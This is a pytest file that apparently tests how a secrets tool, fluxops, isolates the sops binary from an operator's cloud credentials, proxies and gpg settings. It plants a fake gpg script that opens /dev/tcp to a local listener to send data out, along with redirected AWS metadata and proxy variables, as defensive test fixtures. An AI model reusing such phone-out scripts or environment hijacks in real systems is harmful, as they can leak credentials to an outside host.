"""sops runs in a minimal environment: the operator's gpg, cloud and proxy settings never reach it.

Every test points the operator's environment at a TCP listener on 127.0.0.1 (EC2 metadata endpoint,
HTTP(S) proxies, a gpg that phones out) and runs the real sops binary on files whose metadata was
crafted by hand (valid base64, so sops really tries those keys). A control run of the raw binary
with the inherited environment reaches the listener; the fluxops run must not.
"""

from __future__ import annotations

import base64
import os
import socket
import subprocess
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from ruamel.yaml import YAML

from fluxops.errors import SopsError
from fluxops.secrets import repository, sops
from fluxops.secrets.encrypted import inspect
from fluxops.secrets.sops import KeySource, Sops
from tests.unit.sops_testing import run_invoke, secret_yaml, write_encrypted

FILE = "k8s/clusters/lab/infrastructure-config/db.sops.yaml"
KMS_ARN = "arn:aws:kms:us-east-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab"
PGP_FP = "0123456789ABCDEF0123456789ABCDEF01234567"
WAIT = 30.0  # upper bound of every wait for the control run


class Listener:
    """A TCP listener on 127.0.0.1 that counts connections (and closes each at once)."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(32)
        self.sock.settimeout(0.1)
        self.port = self.sock.getsockname()[1]
        self.seen: list[bytes] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            with conn:
                conn.settimeout(0.5)
                try:
                    first = conn.recv(200)
                except OSError:
                    first = b""
                self.seen.append(first or b"(connected)")

    def wait(self, timeout: float) -> bool:
        """True once a connection arrived, waiting at most ``timeout`` seconds."""
        deadline = time.monotonic() + timeout
        while not self.seen and time.monotonic() < deadline:
            time.sleep(0.02)
        return bool(self.seen)

    def close(self) -> None:
        self._stop.set()
        self._thread.join(timeout=5)
        self.sock.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    server = Listener()
    try:
        yield server
    finally:
        server.close()


@pytest.fixture
def hostile_env(listener: Listener, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> dict[str, str]:
    """The operator's environment: cloud credentials, proxies and a gpg, all leading to the listener."""
    gpg = tmp_path / "phoning-gpg"
    gpg.write_text(f'#!/bin/bash\nexec 3<>/dev/tcp/127.0.0.1/{listener.port}\necho gpg "$*" >&3\nexit 2\n')
    gpg.chmod(0o755)
    gnupg = tmp_path / "operator-gnupg"
    gnupg.mkdir(mode=0o700)
    url = f"http://127.0.0.1:{listener.port}"
    env = {
        "AWS_EC2_METADATA_SERVICE_ENDPOINT": url,
        "AWS_ENDPOINT_URL": url,
        "AWS_ACCESS_KEY_ID": "AKIAOPERATOREXAMPLE",
        "AWS_SECRET_ACCESS_KEY": "operator-secret-access-key",
        "AWS_MAX_ATTEMPTS": "1",
        "AWS_METADATA_SERVICE_NUM_ATTEMPTS": "1",
        "AWS_METADATA_SERVICE_TIMEOUT": "1",
        "HTTPS_PROXY": url,
        "HTTP_PROXY": url,
        "https_proxy": url,
        "SOPS_GPG_EXEC": str(gpg),
        "GNUPGHOME": str(gnupg),
        "GPG_AGENT_INFO": str(gnupg / "S.gpg-agent"),
        "VAULT_TOKEN": "operator-vault-token",
        "GOOGLE_CREDENTIALS": "operator-google-credentials",
        "AZURE_CLIENT_SECRET": "operator-azure-secret",
    }
    for name, value in env.items():
        monkeypatch.setenv(name, value)
    monkeypatch.delenv("AWS_EC2_METADATA_DISABLED", raising=False)
    monkeypatch.delenv("FLUXOPS_SOPS_KEY_SERVICES", raising=False)
    return env


def _pgp_armor() -> str:
    body = base64.b64encode(os.urandom(270)).decode()
    lines = "\n".join(body[i : i + 64] for i in range(0, len(body), 64))
    return f"-----BEGIN PGP MESSAGE-----\n\n{lines}\n-----END PGP MESSAGE-----\n"


def craft(repo: Path, *, age: bool, kms: bool = False, pgp: bool = False) -> Path:
    """A lab secret encrypted by sops, its key entries then replaced by hand-made kms/pgp ones."""
    path = write_encrypted(repo, FILE, secret_yaml("db", password="hunter2-s3cret"))
    yaml = YAML()
    doc = yaml.load(path.read_text())
    meta = doc["sops"]
    if not age:
        del meta["age"]
    created = "2024-01-01T00:00:00Z"
    if kms:
        enc = base64.b64encode(os.urandom(184)).decode()
        meta["kms"] = [{"arn": KMS_ARN, "created_at": created, "enc": enc, "aws_profile": ""}]
    if pgp:
        meta["pgp"] = [{"created_at": created, "enc": _pgp_armor(), "fp": PGP_FP}]
    with path.open("w") as fh:
        yaml.dump(doc, fh)
    return path


def raw_sops_reaches(listener: Listener, repo: Path, path: Path, env: dict[str, str]) -> bool:
    """The control: the sops binary, run as the operator would, with the inherited environment."""
    proc = subprocess.Popen(
        [sops.binary(), "--config", str(repo / ".sops.yaml"), "decrypt", str(path)],
        cwd=repo,
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        return listener.wait(WAIT)
    finally:
        proc.kill()
        proc.wait(timeout=10)
        listener.seen.clear()


@pytest.mark.parametrize(
    ("kinds", "label"), [({"kms": True}, "AWS KMS"), ({"pgp": True}, "PGP")], ids=["kms-only", "pgp-only"]
)
def test_a_file_only_for_other_key_services_is_named_and_nothing_is_contacted(
    repo: Path, key_dir: Path, listener: Listener, hostile_env: dict[str, str], kinds: dict, label: str
) -> None:
    path = craft(repo, age=False, **kinds)
    assert inspect(path).state == "encrypted" and "age" not in inspect(path).key_services
    assert raw_sops_reaches(listener, repo, path, dict(os.environ))  # the test could fail

    started = time.monotonic()
    with pytest.raises(SopsError) as err:
        repository.view(repo, key_dir, path)
    message = str(err.value)
    assert f"cannot decrypt {FILE}: fluxops manages age keys" in message
    assert f"this file is encrypted only to {label} keys" in message
    assert f"FLUXOPS_SOPS_KEY_SERVICES={next(iter(kinds))}" in message
    assert "is not one of its recipients ()" not in message
    assert time.monotonic() - started < 10
    assert not listener.wait(1.0)
    # the CLI says the same, with no traceback
    cli = run_invoke(repo, "secrets.view", FILE)
    assert cli.returncode == 1 and f"encrypted only to {label}" in cli.stderr
    assert "Traceback" not in cli.stderr
    assert not listener.wait(1.0)


def test_sops_tries_other_keys_without_the_operators_settings(
    repo: Path, key_dir: Path, tmp_path: Path, listener: Listener, hostile_env: dict[str, str]
) -> None:
    # age is tried first and fails (the key is phx's), so sops goes on to the PGP and KMS entries
    path = craft(repo, age=True, kms=True, pgp=True)
    wrong = {**os.environ, "SOPS_AGE_KEY_FILE": str(key_dir / "phx.agekey")}
    assert raw_sops_reaches(listener, repo, path, wrong)

    empty = tmp_path / "empty-home"
    empty.mkdir()
    key = KeySource.store_file("lab", key_dir / "phx.agekey", empty_home=empty)
    result = Sops(repo)._run(["decrypt", str(path)], key=key, path=path, check=False)
    assert result.rc != 0
    # sops really tried both, and neither got anywhere: metadata address off, gpg without a keyring
    assert "AWS_EC2_METADATA_DISABLED" in result.stderr
    assert "GnuPG binary error" in result.stderr and "phoning-gpg" not in result.stderr
    assert not Sops(repo).can_decrypt(path, key)
    assert not listener.wait(1.0)
    with pytest.raises(SopsError, match=FILE):
        Sops(repo).decrypt(path, key)
    assert not listener.wait(1.0)


def _env_recording_sops(tmp_path: Path) -> tuple[Path, Path]:
    dump = tmp_path / "sops-env"
    wrapper = tmp_path / "recording-sops"
    wrapper.write_text(f'#!/bin/sh\nenv -0 > "{dump}"\nexec "{sops.binary()}" "$@"\n')
    wrapper.chmod(0o755)
    return wrapper, dump


def _read_env(dump: Path) -> dict[str, str]:
    pairs = [item.partition("=") for item in dump.read_text().split("\0") if item]
    return {name: value for name, _, value in pairs}


def test_only_a_minimal_environment_reaches_sops_unless_key_services_are_opted_in(
    repo: Path, key_dir: Path, tmp_path: Path, hostile_env: dict[str, str], monkeypatch: pytest.MonkeyPatch
) -> None:
    write_encrypted(repo, FILE, secret_yaml("db", password="hunter2-s3cret"))
    wrapper, dump = _env_recording_sops(tmp_path)
    monkeypatch.setenv("LC_TIME", "C.UTF-8")
    monkeypatch.setenv("SOPS_PGP_FP", PGP_FP)
    shown = run_invoke(repo, "secrets.view", FILE, env={"FLUXOPS_SOPS": str(wrapper)})
    assert shown.returncode == 0, shown.stderr
    assert "hunter2-s3cret" in shown.stdout
    seen = _read_env(dump)
    for name in hostile_env:
        assert name not in seen or name == "GNUPGHOME", name
    assert "SOPS_PGP_FP" not in seen
    assert seen["AWS_EC2_METADATA_DISABLED"] == "true"
    assert seen["GNUPGHOME"] != hostile_env["GNUPGHOME"] and not Path(seen["GNUPGHOME"]).exists()
    assert seen["SOPS_AGE_KEY_FILE"] == str(key_dir / "lab.agekey")
    assert seen["SOPS_DISABLE_VERSION_CHECK"] == "1"
    assert seen["PATH"] == os.environ["PATH"] and seen["LC_TIME"] == "C.UTF-8"
    assert not {n for n in seen if n.startswith(("AWS_", "GOOGLE_", "AZURE_", "VAULT_"))} - {
        "AWS_EC2_METADATA_DISABLED",
        "AWS_CONFIG_FILE",
        "AWS_SHARED_CREDENTIALS_FILE",
        "GOOGLE_APPLICATION_CREDENTIALS",
    }

    opted = run_invoke(
        repo,
        "secrets.view",
        FILE,
        env={"FLUXOPS_SOPS": str(wrapper), "FLUXOPS_SOPS_KEY_SERVICES": "kms,pgp"},
    )
    assert opted.returncode == 0, opted.stderr
    seen = _read_env(dump)
    assert seen["AWS_ACCESS_KEY_ID"] == hostile_env["AWS_ACCESS_KEY_ID"]
    assert seen["HTTPS_PROXY"] == hostile_env["HTTPS_PROXY"]
    assert seen["GNUPGHOME"] == hostile_env["GNUPGHOME"]
    assert seen["SOPS_GPG_EXEC"] == hostile_env["SOPS_GPG_EXEC"]
    assert "AWS_EC2_METADATA_DISABLED" not in seen
    assert "VAULT_TOKEN" not in seen and "AZURE_CLIENT_SECRET" not in seen

    bad = run_invoke(repo, "secrets.view", FILE, env={"FLUXOPS_SOPS_KEY_SERVICES": "kms,ldap"})
    assert bad.returncode == 1 and "unknown key service(s) ldap" in bad.stderr

    # the operator's own key variables are still passed on explicitly
    elsewhere = tmp_path / "mine.agekey"
    elsewhere.write_bytes((key_dir / "lab.agekey").read_bytes())
    (key_dir / "lab.agekey").rename(key_dir / "lab.agekey.away")
    for name, value in [
        ("SOPS_AGE_KEY_FILE", str(elsewhere)),
        ("SOPS_AGE_KEY_CMD", f"cat {elsewhere}"),
        ("SOPS_AGE_KEY", elsewhere.read_text()),
    ]:
        with monkeypatch.context() as patch:
            patch.setenv(name, value)
            assert "hunter2-s3cret" in repository.view(repo, key_dir, repo / FILE).reveal(), name
